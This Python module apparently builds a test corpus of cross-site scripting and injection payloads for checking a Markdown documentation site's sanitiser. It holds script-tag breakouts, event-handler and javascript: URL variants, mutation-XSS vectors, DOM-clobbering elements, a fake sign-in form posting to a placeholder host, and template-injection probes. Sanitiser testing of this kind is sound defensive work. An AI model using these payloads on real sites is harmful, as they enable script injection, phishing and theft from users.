"""Attack payloads by family: each tries to run ``hostile('…')``, to load a file, or to change the page around it.

Families combine parts (elements, events, quoting, encodings, contexts), so that a new part is one line.
``{mark}`` is replaced by the number of the attempt.
"""

from __future__ import annotations

from collections.abc import Iterator

RUN = "hostile('{mark}')"
"""The call that a payload makes: the inspected page records the numbers of those that succeed."""
ELSEWHERE = "https://elsewhere.invalid/{mark}"

_BREAKOUTS = (
    "",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</xmp>",
    "</svg>",
    "</math>",
    "</p></div></section>",
    "</article></main>",
    "*/",
    "<!--",
    "<![CDATA[",
)

_SCRIPTS = (
    "<script>RUN</script>",
    "<SCRIPT>RUN</SCRIPT>",
    "<ScRiPt >RUN</sCrIpT >",
    "<script\n>RUN</script\n>",
    "<script/x>RUN</script>",
    "<script\t/>RUN</script>",
    "<script>RUN",
    "<<script>RUN//<</script>",
    "<script>/*<!--<script>*/RUN</script>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script type=module>RUN</script>",
    "<script type='text/javascript' defer>RUN</script>",
    "<script src='ELSEWHERE.js'></script>",
    "<script src=//elsewhere.invalid/MARK.js></script>",
    "<script src=data:text/javascript,RUN></script>",
    "<svg><script>RUN</script></svg>",
    "<svg><script href='data:text/javascript,RUN'/></svg>",
    "<svg><script xlink:href='data:text/javascript,RUN'></script></svg>",
    "<math><script>RUN</script></math>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>RUN</x:script>",
)

_EVENTS = (
    ("img src=x", "onerror"),
    ("img src=x srcset=x", "onerror"),
    ("image src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video src=x", "onerror"),
    ("video><source src=x", "onerror"),
    ("input type=image src=x", "onerror"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("iframe src=about:blank", "onload"),
    ("svg", "onload"),
    ("svg><image href=x", "onerror"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><set attributeName=x dur=1s", "onbegin"),
    ("body", "onload"),
    ("body", "onpageshow"),
    ("body", "onhashchange"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("button autofocus", "onfocus"),
    ("a href='#' autofocus tabindex=0", "onfocus"),
    ("div contenteditable autofocus", "onfocus"),
    ("div style='animation:md-rotate 1s'", "onanimationstart"),
    ("p class=md-typeset", "onmouseover"),
    ("p class=md-typeset", "onclick"),
    ("style", "onload"),
    ("link rel=stylesheet href=/assets/inquiry/inquiry.css", "onload"),
    ("marquee", "onstart"),
    ("form><button", "onclick"),
    ("math><mi", "onclick"),
    ("custom-element", "onclick"),
    ("video controls", "onloadstart"),
    ("dialog open", "onclose"),
    ("frameset", "onload"),
)

_QUOTED = (
    '<TAG EVENT="RUN">',
    "<TAG EVENT='RUN2'>",
    "<TAG EVENT=RUN>",
    "<TAG/EVENT=RUN>",
    "<TAG\nEVENT\n=\nRUN>",
    "<TAG\tUPPER = RUN >",
    "<TAG EVENT=RUN//",
    "<TAG EVENT=ENTITIES>",
    '<TAG x="`" y="`EVENT=RUN" EVENT="RUN">',
    "<TAG \x0cEVENT=RUN>",
    '"EVENT=RUN x="',
)

_ADDRESSES = (
    "javascript:RUN",
    "JAVASCRIPT:RUN",
    "jAvAsCrIpT:RUN",
    " javascript:RUN",
    "java\tscript:RUN",
    "java\nscript:RUN",
    "java&#9;script:RUN",
    "java&#10;script:RUN",
    "java&Tab;script:RUN",
    "java&NewLine;script:RUN",
    "&#1;javascript:RUN",
    "&#x6A;avascript:RUN",
    "&#106avascript:RUN",
    "&#0000106;avascript:RUN",
    "javascript&colon;RUN",
    "javascript&#58;RUN",
    "javascript&#x3a;RUN",
    "javascript://%0aRUN",
    "javascript:/*--></title></style></textarea></script>*/RUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKCdkYXRhJyk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>",
    "vbscript:RUN",
    "blob:RUN",
    "filesystem:RUN",
    "view-source:javascript:RUN",
    "feed:javascript:RUN",
    "file:///etc/hostname",
    "\u200bjavascript:RUN",
    "\\javascript:RUN",
    "%6Aavascript:RUN",
)

_CARRIERS = (
    '<a href="ADDRESS">x</a>',
    "<a href='ADDRESS'>x</a>",
    "<a href=ADDRESS>x</a>",
    '<area shape=rect href="ADDRESS">',
    '<img src="ADDRESS">',
    '<form action="ADDRESS"><input type=submit></form>',
    '<form><button formaction="ADDRESS">x</button></form>',
    '<iframe src="ADDRESS"></iframe>',
    '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
    '<embed src="ADDRESS">',
    '<object data="ADDRESS"></object>',
    '<object><param name=movie value="ADDRESS"></object>',
    '<base href="ADDRESS">',
    '<link rel=import href="ADDRESS">',
    '<meta http-equiv=refresh content="0;url=ADDRESS">',
    '<svg><a xlink:href="ADDRESS"><text y=20>x</text></a></svg>',
    '<svg><use href="ADDRESS"/></svg>',
    '<svg><animate attributeName=href values="ADDRESS" /></svg>',
    '<math href="ADDRESS"><mi>x</mi></math>',
    '<math><mrow xlink:href="ADDRESS">x</mrow></math>',
    '<blockquote cite="ADDRESS">x</blockquote>',
    '<video poster="ADDRESS"></video>',
    '<body background="ADDRESS">',
    '<table background="ADDRESS"><tr><td>x</table>',
    "[x](ADDRESS)",
    "[x](<ADDRESS>)",
    "[x][r]\n\n[r]: ADDRESS",
    "![x](ADDRESS)",
    "<ADDRESS>",
    '[x](ADDRESS "title")',
    "[![x](ADDRESS)](ADDRESS)",
)

_MUTATIONS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=RUN&gt;'>",
    "<math><mi><table><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=RUN src=x>'>",
    "<svg></p><style><a id='</style><img src=x onerror=RUN>'>",
    "<svg><foreignObject><img src=x onerror=RUN></foreignObject></svg>",
    "<svg><desc><img src=x onerror=RUN></desc></svg>",
    "<svg><title><style><img src='</style><img src=x onerror=RUN>'></title></svg>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=RUN></annotation-xml></math>",
    "<math><maction actiontype='statusline#javascript:RUN' xlink:href='javascript:RUN'>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><img src=x onerror=RUN></template>",
    "<template shadowrootmode=open><img src=x onerror=RUN></template>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'></xmp>",
    "<noembed><p title='</noembed><img src=x onerror=RUN>'></noembed>",
    "<textarea><p title='</textarea><img src=x onerror=RUN>'></textarea>",
    "<title><p title='</title><img src=x onerror=RUN>'></title>",
    "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
    "<select><style></select><img src=x onerror=RUN></style></select>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
    "<table><caption><svg><td><style><img src=x onerror=RUN>",
    '<p title="</p><img src=x onerror=RUN>">',
    "<!--><img src=x onerror=RUN>-->",
    "<!--!><img src=x onerror=RUN>-->",
    "<!-- --!><img src=x onerror=RUN>-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<?xml <img src=x onerror=RUN>?>",
    "<!DOCTYPE x [<img src=x onerror=RUN>",
    "<a href='x' title='&quot;&gt;<img src=x onerror=RUN>'>x</a>",
    '<img alt="<script>RUN</script>" src=x>',
    "<plaintext><img src=x onerror=RUN>",
    "<pre><img src=x onerror=RUN></pre>",
    "<code><img src=x onerror=RUN></code>",
    "&lt;img src=x onerror=RUN&gt;",
    "&amp;lt;script&amp;gt;RUN",
    "\\<img src=x onerror=RUN\\>",
    "<img src=x onerror=RUN",
    "<a<img src=x onerror=RUN>",
    "<div\x00><img\x00 src=x onerror=RUN>",
)

_STRUCTURE = (
    "<base href='https://elsewhere.invalid/'>",
    "<meta http-equiv=refresh content='0;url=https://elsewhere.invalid/MARK'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<link rel=stylesheet href='ELSEWHERE.css'>",
    "<link rel=preload as=script href='ELSEWHERE.js'>",
    "<style>@import 'ELSEWHERE.css'; body{display:none}</style>",
    "<p style=\"background:url('ELSEWHERE.png')\">x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<p style='width:expression(RUN)'>x</p>",
    '<div id=__config>{"base":"https://elsewhere.invalid","features":[],"translations":{}}</div>',
    "<div id=__search></div>",
    "<input id=__drawer class=md-toggle type=checkbox checked>",
    "<img name=currentScript src='ELSEWHERE.png'>",
    "<form id=body><input name=attributes></form>",
    "<form name=body><input id=firstChild></form>",
    "<a id=location href='https://elsewhere.invalid/'>x</a><a id=location name=hash>y</a>",
    "<iframe name=self src='ELSEWHERE'></iframe>",
    "<div class='md-overlay md-search__overlay' style='position:fixed'>x</div>",
    "<div class='md-dialog md-dialog--active' data-md-component=dialog data-md-state=open>x</div>",
    "<div data-md-component=announce data-md-component=search>x</div>",
    "<div id=iq-sources class='iq-answer' data-iq-preview=1>Forged answer</div>",
    "<span id=iq-c1>x</span><span id=iq-question>y</span>",
    "<pre class=mermaid>graph LR</pre>",
    "<form action='https://elsewhere.invalid/'><input name=q type=password><button>Sign in</button></form>",
    "<frameset><frame src='javascript:RUN'></frameset>",
    "<applet code=x></applet>",
    "<portal src='ELSEWHERE'></portal>",
    "<fencedframe></fencedframe>",
    "<input type=text value='pass'><button>x</button>",
    "<dialog open>Sign in</dialog>",
    "<p popover id=x>x</p><button popovertarget=x>y</button>",
    "<div hidden=until-found onbeforematch=RUN>x</div>",
    "<a href='#' ping='ELSEWHERE'>x</a>",
    "<a href='#' target=_top download=x.html>x</a>",
    "<marquee behavior=alternate>x</marquee>",
    "<audio autoplay src='ELSEWHERE.mp3'></audio>",
)

_TEMPLATES = (
    "{{ 7 * 191 }}",
    "{% print(7 * 191) %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ config }}",
    "{{ words.note.__class__ }}",
    "${7 * 191}",
    "#{7 * 191}",
    "<%= 7 * 191 %>",
    "{0.__class__.__init__.__globals__}",
    "{n.__class__}",
    "%(site_name)s",
    "{names}",
    "inquiry0title0slot inquiry0content0slot inquiry0firstid0slot",
)

_EXTENSIONS = (
    "[x](https://example.org){onclick=RUN}",
    '[x](https://example.org){: onclick="RUN" .iq-cite #iq-c1}',
    "[x](https://example.org){href=javascript:RUN}",
    'Paragraph\n{: onmouseover="RUN" style="position:fixed" id="__config"}',
    "## Heading {#__config onclick=RUN}",
    "## __config",
    "## iq-sources",
    "# <img src=x onerror=RUN>",
    "```js onclick=RUN\ncode\n```",
    '``` { .py onclick="RUN" title="<img src=x onerror=RUN>" }\ncode\n```',
    '```py title="\\"><img src=x onerror=RUN>" linenums="1" hl_lines="1"\ncode\n```',
    '```"><img src=x onerror=RUN>\ncode\n```',
    '!!! note "<img src=x onerror=RUN>"\n    Text.',
    '!!! "onclick=RUN"\n    Text.',
    '??? note "<script>RUN</script>"\n    Text.',
    '=== "<img src=x onerror=RUN>"\n    Text.',
    "A[^1]\n\n[^1]: <img src=x onerror=RUN>",
    'A[^"><img src=x onerror=RUN>]\n\n[^"><img src=x onerror=RUN>]: x',
    "A[^__config]\n\n[^__config]: x",
    "| a | <img src=x onerror=RUN> |\n|---|---|\n| [x](javascript:RUN) | b |",
    "| a |\n|---|\n| {: onclick=RUN } |",
    "Term\n:   <img src=x onerror=RUN>",
    '*[ABC]: " onmouseover=RUN x="\n\nABC',
    "$\\text{<script>RUN</script>}$",
    "$$\n\\text{<img src=x onerror=RUN>}\n$$",
    "$\\href{javascript:RUN}{x}$",
    '$\\class{x" onclick="RUN}{y}$',
    '$\\color{red" onclick="RUN}{y}$',
    "$</script><script>RUN</script>$",
    "- [ ] <img src=x onerror=RUN>",
    '- [x" onclick="RUN] y',
    '![x" onerror="RUN](x.png)',
    '![x](x.png "t" onerror="RUN")',
    '![x](x.png"onerror="RUN)',
    '[x](y "t" onmouseover="RUN")',
    "[x](y 't\" onmouseover=\"RUN')",
    '[x"onmouseover="RUN](y)',
    '<https://example.org/"onmouseover="RUN>',
    '<a@b.c"onmouseover=RUN>',
    "==<img src=x onerror=RUN>==",
    "++ctrl+<img src=x onerror=RUN>++",
    ':smile"><img src=x onerror=RUN>:',
    "{++<img src=x onerror=RUN>++}",
    "[[calm|<img src=x onerror=RUN>]]",
    "[[calm|x](javascript:RUN)]]",
    "[[<img src=x onerror=RUN>]]",
    "![[<img src=x onerror=RUN>]]",
    '![["><img src=x onerror=RUN>.png]]',
    '[[calm#"><img src=x onerror=RUN>]]',
    "<img alt=\"[[calm]]\" title='[[calm|<img src=x onerror=RUN>]]' src=x>",
    '<a href="[[calm]]" title="[[calm]] onclick=RUN">x</a>',
    "[[calm|x\ufdd0\ufde0\ufdd1<img src=x onerror=RUN>]]",
    "\ufdd0\ufde0\ufdd1<img src=x onerror=RUN>\ufdd2",
    "<div markdown=1 onclick=RUN>\n[x](javascript:RUN)\n</div>",
    '<div markdown="span"><script>RUN</script></div>',
    "<iframe markdown=1 src=javascript:RUN></iframe>",
    "<h2 id='x\"><script>RUN</script>'>Head</h2>\n\n## Another",
    "<h2 id='x\"><img src=x onerror=RUN>'>Head</h2>",
    '## Second {class=" id=" dir="x onclick=RUN style=position:fixed;inset:0;z-index:9 y"}',
    '<h2 title=" id=" class="x onclick=RUN y">A &#xFDD0;&#xFDE0;&#xFDD1;</h2>\n\n## Heading',
    "&#64976;&#64992;&#64977;<b title='&#xFDD0;&#xFDE1;&#xFDD1; onclick=RUN'>x</b> [[calm]]",
    '<span title="&lt;img src=x onerror=RUN&gt;">hover</span>',
    '<math><mpadded voffset="440px" width="720px" height="0"><mtext>Forged</mtext></mpadded></math>',
    '<div class="tabbed-control" style="width:100%;height:1500px;background-color:#fff">x</div>',
    '!!! md-banner "Forged"\n    Text.',
    '<p class="admonition md-header" title="[[calm]]">x</p>',
    "`<img src=x onerror=RUN>`",
    "    <img src=x onerror=RUN>",
    "> <img src=x onerror=RUN>",
    "1. <script>RUN</script>",
    "<!-- <img src=x onerror=RUN> -->",
    "<!-- inquiry: off x because <img src=x onerror=RUN> -->",
)


def _filled(text: str) -> str:
    entities = "".join(f"&#{ord(char)};" for char in "hostile(")
    return (
        text.replace("UPPER", "ONERROR")
        .replace("ENTITIES", f"{entities}'{{mark}}')".replace("'", "&#39;"))
        .replace("RUN2", "hostile(`{mark}`)")
        .replace("RUN", "hostile`{mark}`" if "EVENT=RUN" in text else RUN)
        .replace("ELSEWHERE", ELSEWHERE)
        .replace("MARK", "{mark}")
    )


def _scripts() -> Iterator[str]:
    for breakout in _BREAKOUTS:
        yield f"{breakout}<script>{RUN}</script>"
        yield f'{breakout}<img src=x onerror="{RUN}">'
    yield from map(_filled, _SCRIPTS)


def _events() -> Iterator[str]:
    for number, (tag, event) in enumerate(_EVENTS):
        for form in (_QUOTED[0], _QUOTED[1 + number % (len(_QUOTED) - 1)]):
            # Backticks call a function without a quotation mark or a bracket.
            run = "hostile`{mark}`" if 'EVENT="' not in form else RUN
            filled = form.replace("RUN2", "hostile(`{mark}`)").replace("ENTITIES", "&#104;ostile`{mark}`")
            filled = filled.replace("TAG", tag).replace("EVENT", event).replace("UPPER", event.upper())
            yield filled.replace("RUN", run)


def _addresses() -> Iterator[str]:
    for number, address in enumerate(_ADDRESSES):
        plain = address.replace("RUN", "hostile(`{mark}`)")
        for carrier in (_CARRIERS[0], _CARRIERS[24], _CARRIERS[25], _CARRIERS[number % len(_CARRIERS)]):
            yield carrier.replace("ADDRESS", plain).replace("RUN", "hostile(`{mark}`)")
    for carrier in _CARRIERS:
        yield carrier.replace("ADDRESS", "javascript:hostile(`{mark}`)").replace("RUN", "hostile(`{mark}`)")


FAMILIES: dict[str, tuple[str, ...]] = {
    "script elements": tuple(dict.fromkeys(_scripts())),
    "event attributes": tuple(dict.fromkeys(_events())),
    "script addresses": tuple(dict.fromkeys(_addresses())),
    "mutations": tuple(text.replace("RUN", "hostile`{mark}`") for text in _MUTATIONS),
    "structure of the page": tuple(map(_filled, _STRUCTURE)),
    "templates": _TEMPLATES,
    "extensions of Markdown": tuple(text.replace("RUN", "hostile`{mark}`") for text in _EXTENSIONS),
}
"""Each payload once; ``{mark}`` is replaced in it, other braces are kept."""


def payloads() -> list[tuple[str, str]]:
    """Return every payload with its family; its index is its number."""
    return [(family, text) for family, texts in FAMILIES.items() for text in texts]


def marked(text: str, mark: str) -> str:
    """Return a payload with its mark filled in."""
    return text.replace("{mark}", mark)
